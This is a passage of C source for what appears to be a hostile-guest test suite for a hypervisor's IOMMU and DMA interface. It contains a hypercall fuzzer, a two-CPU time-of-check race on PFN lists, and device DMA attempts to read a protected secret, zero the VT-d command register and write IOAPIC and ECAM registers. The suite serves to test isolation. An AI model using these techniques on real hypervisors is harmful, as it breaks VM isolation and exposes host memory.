                sizes_of[call] = size;
        }
    }
    struct hc_stats_block before, after;
    bool books = guest_books(&before);
    uint64_t bytes = 16 * 4096ull;
    const uint64_t bad[] = {o->region_base, h->region_end - 8, h->target_pa, o->image_base + 4096, o->iommu_base[0],
                            HOSTILE_APIC, 1ull << 50, buf_pa + 4, o->region_base - 8};
    uint64_t handles[32] = {0};
    unsigned nh = 0;
    static uint64_t made_handle[512];
    static unsigned made_call[512];
    unsigned nmade = 0;
    struct tally rnd = {0};
    enum { ROUNDS = 10000 };
    for (unsigned i = 0; i < ROUNDS; i++) {
        unsigned call;
        do
            call = prng_next(&rng) % 8 ? (unsigned)(prng_next(&rng) % HC_CALLS) : (unsigned)(prng_next(&rng) % 0x10000);
        while (call == HC_GUEST_EXIT || call == HC_AUDIT);
        uint64_t rax = prng_next(&rng) % 20 ? hc_rax((enum hc_call)call) : prng_next(&rng);
        if ((rax & 0xFFFF) == HC_GUEST_EXIT || (rax & 0xFFFF) == HC_AUDIT)
            rax = hc_rax(HC_VERSION);
        uint64_t size = call < HC_CALLS && prng_next(&rng) % 10 ? sizes_of[call] : prng_next(&rng) % 300;
        uint64_t at = buf_pa + (prng_next(&rng) % (bytes - 512) / 8) * 8;
        if (prng_next(&rng) % 10 == 0)
            at = bad[prng_next(&rng) % (sizeof bad / sizeof bad[0])];
        if (at >= buf_pa && at + 512 <= buf_pa + bytes) {
            uint64_t *w = (uint64_t *)(uintptr_t)at;
            for (unsigned k = 0; k < 40; k++) {
                switch (prng_next(&rng) % 6) {
                case 0:
                    w[k] = prng_next(&rng) % 4;
                    break;
                case 1:
                    w[k] = buf_pa + prng_next(&rng) % bytes;
                    break;
                case 2:
                    w[k] = nh ? handles[prng_next(&rng) % nh] : 0;
                    break;
                case 3:
                    w[k] = nh ? handles[prng_next(&rng) % nh] ^ (1ull << (prng_next(&rng) % 64)) : 0;
                    break;
                case 4:
                    w[k] = bad[prng_next(&rng) % (sizeof bad / sizeof bad[0])]; /* the region, MMIO, past RAM */
                    break;
                default:
                    w[k] = prng_next(&rng) | 1ull << 62;
                    break;
                }
            }
        }
        uint64_t st = hvmcall(rax, at, size);
        tally_add(&rnd, st);
        if ((uint32_t)st == 0 && at >= buf_pa && at + 512 <= buf_pa + bytes && rax == hc_rax((enum hc_call)call)) {
            const uint8_t *blk = (const uint8_t *)(uintptr_t)at;
            uint64_t made = 0;
            if (call == HC_CREATE_DOMAIN && size == sizeof(struct hc_create_domain_block))
                made = ((const struct hc_create_domain_block *)blk)->domain;
            else if (call == HC_CREATE_DOMAIN_EX && size == sizeof(struct hc_create_domain_ex_block))
                made = ((const struct hc_create_domain_ex_block *)blk)->domain;
            else if (call == HC_CREATE_DEVICE && size == sizeof(struct hc_create_device_block))
                made = ((const struct hc_create_device_block *)blk)->dma_device;
            else if (call == HC_RESERVE_LOGICAL_RANGE && size == sizeof(struct hc_reserve_block))
                made = ((const struct hc_reserve_block *)blk)->token;
            if (made && nmade < 512)
                made_call[nmade] = call, made_handle[nmade++] = made;
        }
        if ((uint32_t)st == 0 && at >= buf_pa && at + 512 <= buf_pa + bytes) {
            const uint64_t *w = (const uint64_t *)(uintptr_t)at;
            for (unsigned k = 0; k < size / 8 && k < 40; k++)
                if (w[k] >> 48 && nh < 32)
                    handles[nh++] = w[k];
        }
    }
    tally_print(h, C, "statuses of 10000 random hypercalls", &rnd);
    /* What the random calls made, given back, so the classes after this one find room. */
    unsigned freed = 0;
    for (int pass = 0; pass < 3; pass++)
        for (unsigned i = 0; i < nmade; i++) {
            uint64_t *b = (uint64_t *)buf;
            __builtin_memset(buf, 0, 64);
            b[0] = made_handle[i];
            uint64_t st = ~0ull;
            if (pass == 0 && made_call[i] == HC_CREATE_DEVICE) {
                hvmcall(hc_rax(HC_DETACH_DEVICE_EX), buf_pa, sizeof(struct hc_device_handle_block));
                st = hvmcall(hc_rax(HC_DELETE_DEVICE), buf_pa, sizeof(struct hc_device_handle_block));
            } else if (pass == 1 && made_call[i] == HC_RESERVE_LOGICAL_RANGE) {
                st = hvmcall(hc_rax(HC_FREE_RESERVED_LOGICAL_RANGE), buf_pa, sizeof(struct hc_token_block));
            } else if (pass == 2 && (made_call[i] == HC_CREATE_DOMAIN || made_call[i] == HC_CREATE_DOMAIN_EX)) {
                st = hvmcall(hc_rax(HC_DELETE_DOMAIN), buf_pa, sizeof(struct hc_domain_block));
            }
            freed += st == 0;
        }
    hl(h, C, "the random calls made %u domains, devices and tokens; %u given back", nmade, freed);
    books &= guest_books(&after);
    struct hc_version_block v = {0};
    uint64_t vs = hvmcall(hc_rax(HC_VERSION), (uint64_t)(uintptr_t)&v, sizeof v);
    hl(h, C, "after them: HC_VERSION 0x%lx (ABI %u); books %s: %u domains, %u devices, pool %u of %u pages, %lu calls, "
             "%lu refused",
       vs, v.abi_version, books ? "read" : "UNREADABLE", after.domains, after.devices, after.pool_in_use, after.pool_pages,
       after.calls, after.refused);
    attempt(h, C, vs != 0, "the hypervisor serves after the abuse: HC_VERSION 0x%lx", vs);
    hostile_free(buf_pa, 16);
    audit(h, C, 0);
}

/* ---- 9. toctou ---- */

#define TOCTOU_FRAMES 64u

struct flip {
    volatile PFN_NUMBER *frame0a, *frame0b;
    PFN_NUMBER mine, canary;
    volatile struct hc_map_logical_ex_block *blk;
    uint64_t list_a, list_b;
    volatile uint32_t stop, done, started;
    volatile uint64_t flips;
    uint64_t deadline;
};

static VOID EFIAPI flipper(VOID *arg)
{
    struct flip *f = arg;
    f->started = 1;
    while (!f->stop && tsc_read() < f->deadline) {
        *f->frame0a = f->canary;
        f->blk->phys.base = f->list_b;
        f->blk->phys.count = 1;
        __asm__ volatile("pause");
        *f->frame0a = f->mine;
        f->blk->phys.base = f->list_a;
        f->blk->phys.count = TOCTOU_FRAMES;
        __asm__ volatile("pause");
        f->flips++;
    }
    f->done = 1;
}

void class_toctou(struct hostile *h)
{
    const char *C = "toctou";
    if (h->cpus < 2 || !h->mp) {
        hl(h, C, "skipped: one CPU, nobody to race the hypervisor with");
        audit(h, C, 0);
        return;
    }
    if (!h->have_ddi || !h->o->edus) {
        hl(h, C, "no DDI protocol or no edu: not tried");
        audit(h, C, 0);
        return;
    }
    DMA_IOMMU_INTERFACE_V2 *v2 = &h->ex.V2;
    uint64_t pages_pa = 0, lists_pa = 0;
    uint8_t *pages = hostile_pages(TOCTOU_FRAMES, &pages_pa);
    PFN_NUMBER *lists = (PFN_NUMBER *)hostile_pages(2, &lists_pa);
    struct flow fl = {0};
    if (!pages || !lists || !flow_open(h, &fl)) {
        hl(h, C, "no pages, or no DDI flow (0x%x): not tried", (unsigned)fl.st);
        hostile_free(pages_pa, TOCTOU_FRAMES);
        hostile_free(lists_pa, 2);
        flow_close(h, &fl);
        audit(h, C, 0);
        return;
    }
    PFN_NUMBER *list_a = lists, *list_b = lists + 512;
    PFN_NUMBER canary = h->target_pa >> 12, mine = pages_pa >> 12;
    for (unsigned i = 0; i < TOCTOU_FRAMES; i++)
        list_a[i] = list_b[i] = mine + i;
    list_b[0] = canary;
    NTSTATUS sd;
    uint64_t dma_iova = map_rw(h, &fl, h->dma_pa, 4096, &sd);
    /* edu's buffer holds the marker from here on. */
    uint64_t marker = HOSTILE_MARKER ^ 9;
    __builtin_memcpy(h->dma, &marker, 8);
    bool loaded = NT_SUCCESS(sd) && edu_move(h, dma_iova, 8, false);

    static struct hc_map_logical_ex_block blk;
    static struct flip f;
    f = (struct flip){.frame0a = &list_a[0], .frame0b = &list_b[0], .mine = mine, .canary = canary, .blk = &blk,
                      .list_a = (uint64_t)(uintptr_t)list_a, .list_b = (uint64_t)(uintptr_t)list_b,
                      .deadline = tsc_read() + 60ull * 1000 * 1000 * hostile_tsc_per_us};
    EFI_EVENT ev = NULL;
    EFI_STATUS est = uefi_call_wrapper(BS->CreateEvent, 5, 0, 0, NULL, NULL, &ev);
    if (!EFI_ERROR(est))
        est = h->mp->startup_this_ap(h->mp, flipper, 1, ev, 0, &f, NULL);
    for (unsigned i = 0; i < 1000 && !EFI_ERROR(est) && !f.started; i++)
        stall_us(100);
    hl(h, C, "cpu 1 flips frame 0 (our page 0x%lx / the secret's 0x%lx) and the block's list and count: StartupThisAP "
             "non-blocking 0x%lx, %s",
       (uint64_t)mine << 12, (uint64_t)canary << 12, (uint64_t)est, f.started ? "running" : "NOT RUNNING");

    enum { ROUNDS = 200 };
    unsigned ok = 0, denied = 0, other = 0, checked = 0, wrong = 0;
    uint64_t claimed = 0;
    for (unsigned r = 0; r < ROUNDS; r++) {
        NTSTATUS st;
        IOMMU_DMA_LOGICAL_ADDRESS iova = 0;
        uint64_t count = TOCTOU_FRAMES;
        if (r % 2) {
            IOMMU_MAP_PHYSICAL_ADDRESS mp = {.MapType = MapPhysicalAddressTypePfn, .PfnArray = {list_a, TOCTOU_FRAMES}};
            st = v2->MapLogicalRangeEx(fl.dom, IOMMU_ACCESS_READ | IOMMU_ACCESS_WRITE, &mp, NULL, NULL, NULL, &iova);
        } else {
            blk = (struct hc_map_logical_ex_block){.domain = (uint64_t)(uintptr_t)fl.dom, .permissions = 3,
                                                   .out_present = 1,
                                                   .phys = {.map_type = MapPhysicalAddressTypePfn,
                                                            .base = (uint64_t)(uintptr_t)list_a, .count = TOCTOU_FRAMES}};
            st = (NTSTATUS)hvmcall(hc_rax(HC_MAP_LOGICAL_RANGE_EX), (uint64_t)(uintptr_t)&blk, sizeof blk);
            iova = blk.logical_address;
        }
        if (st == STATUS_ACCESS_DENIED)
            denied++;
        else if (!NT_SUCCESS(st))
            other++;
        if (!NT_SUCCESS(st))
            continue;
        ok++;
        if (loaded && (checked < 16 || r % 16 == 0)) {
            checked++;
            *(volatile uint64_t *)pages = 0;
            bool w = edu_move(h, iova, 8, true);
            if (w && *(volatile uint64_t *)pages != marker) {
                /* The map's frame 0 is not our page: read what is there. */
                wrong++;
                __builtin_memset((void *)(h->dma + 0x100), 0, 16);
                if (edu_move(h, iova, 16, false) && edu_move(h, dma_iova + 0x100, 16, true) && nonzero(h->dma + 0x100, 8))
                    claimed = get64(h->dma + 0x100);
                loaded = edu_move(h, dma_iova, 8, false);
            }
        }
        /* what was mapped: the block may say 1 frame if it was read after a flip */
        v2->UnmapLogicalRange(fl.dom, iova, count);
    }
    f.stop = 1;
    for (unsigned i = 0; i < 50000 && !f.done; i++)
        stall_us(100);
    if (ev)
        uefi_call_wrapper(BS->CloseEvent, 1, ev);
    attempt(h, C, wrong > 0,
            "%u rounds of MapLogicalRangeEx (PFN list, half through the shim, half by a block the other CPU rewrites): "
            "%u mapped, %u denied, %u other; %u checked by edu DMA, %u mapped something else than our page; %lu flips, "
            "flipper %s",
            ROUNDS, ok, denied, other, checked, wrong, f.flips, f.done ? "stopped" : "STILL RUNNING");
    if (NT_SUCCESS(sd))
        v2->UnmapLogicalRange(fl.dom, dma_iova, 1);
    flow_close(h, &fl);
    hostile_free(pages_pa, TOCTOU_FRAMES);
    if (f.done)
        hostile_free(lists_pa, 2);
    audit(h, C, claimed);
}

/* ---- 10. dma ---- */

struct dma_target {
    uint64_t pa;
    const char *what;
    bool write;
    uint32_t len;
};

/* One DMA to target (an IOVA: physical in the default domain), read or write; reads land in
 * our page at land (the device's address of h->dma + 0x800). */
static void dma_try(struct hostile *h, const char *mode, const struct dma_target *t, uint64_t src_iova, uint64_t land,
                    uint64_t *claimed)
{
    const char *C = "dma";
    volatile uint8_t *at = h->dma + 0x800;
    if (t->write) {
        /* what to write is staged in the device's buffer from our page */
        bool ok = edu_move(h, src_iova, t->len, false) && edu_move(h, t->pa, t->len, true);
        h->attempts++;
        hl(h, C, "%s: edu DMA write of %u bytes to %s 0x%lx: %s (edu reports no error: the unit's fault and the audit "
                 "tell)",
           mode, t->len, t->what, t->pa, ok ? "done" : "timed out");
        return;
    }
    for (unsigned i = 0; i < 64; i++)
        at[i] = 0x5A;
    bool ok = edu_move(h, t->pa, t->len, false) && edu_move(h, land, t->len, true);
    bool got = ok && nonzero(at, t->len);
    attempt(h, C, got, "%s: edu DMA read of %u bytes at %s 0x%lx: %s, first bytes 0x%lx", mode, t->len, t->what, t->pa,
            ok ? "done" : "timed out", get64(at));
    if (got && t->pa == h->target_pa)
        *claimed = get64(at);
}

void class_dma(struct hostile *h)
{
    const char *C = "dma";
    if (!h->o->edus) {
        hl(h, C, "no edu: not tried");
        audit(h, C, 0);
        return;
    }
    uint64_t marker = HOSTILE_MARKER ^ 10;
    uint32_t pciexbar = cfg_read(cf8(0, 0, 0, 0x60));
    uint8_t *d = h->dma;
    __builtin_memset(d, 0, 0x800);
    __builtin_memcpy(d, &marker, 8);              /* 0x000: the marker */
    __builtin_memcpy(d + 0x100, &pciexbar, 4);    /* 0x100: PCIEXBAR as it is */
    const struct dma_target t[] = {
        {h->target_pa + 8, "the canary", true, 8},
        {h->target_pa, "the secret", false, 16},
        {h->o->region_base, "the region's first page", true, 8},
        {h->o->region_base, "the region's first page", false, 16},
        {h->o->iommu_base[0], "the VT-d registers", false, 0x40},
        {h->o->iommu_base[0] + 0x18, "VT-d GCMD = 0", true, 4},
        {HOSTILE_IOAPIC, "the IOAPIC", false, 16},
        {HOSTILE_IOAPIC, "the IOAPIC's IOREGSEL", true, 4},
        {HOSTILE_ECAM, "the host bridge's ECAM page", false, 0x40},
        {HOSTILE_ECAM + 0x60, "the host bridge's PCIEXBAR by ECAM (its own value)", true, 4},
    };
    /* write sources: the marker, zeroes for GCMD and IOREGSEL, PCIEXBAR's value */
    const uint64_t src_off[] = {0, 0, 0, 0, 0, 0x200, 0, 0x200, 0, 0x100};
    uint64_t claimed = 0;
    /* The default domain: device addresses are physical. */
    for (unsigned i = 0; i < sizeof t / sizeof t[0]; i++)
        dma_try(h, "default domain", &t[i], h->dma_pa + src_off[i], h->dma_pa + 0x800, &claimed);
    /* Translation still on? A read of the region must still arrive as zeroes. */
    struct dma_target probe = {h->o->region_base, "the region again (translation still on?)", false, 16};
    dma_try(h, "default domain", &probe, 0, h->dma_pa + 0x800, &claimed);
    /* A DDI domain: the same addresses as IOVAs, mapped to nothing. */
    struct flow fl = {0};
    if (h->have_ddi && flow_open(h, &fl)) {
        NTSTATUS sd;
        uint64_t dma_iova = map_rw(h, &fl, h->dma_pa, 4096, &sd);
        if (NT_SUCCESS(sd)) {
            for (unsigned i = 0; i < sizeof t / sizeof t[0]; i++)
                dma_try(h, "DDI domain", &t[i], dma_iova + src_off[i], dma_iova + 0x800, &claimed);
            h->ex.V2.UnmapLogicalRange(fl.dom, dma_iova, 1);
        } else {
            hl(h, C, "DDI domain: our page not mappable (0x%x)", (unsigned)sd);
        }
        flow_close(h, &fl);
    } else {
        hl(h, C, "DDI domain: none (0x%x)", (unsigned)fl.st);
    }
    audit(h, C, claimed);
}
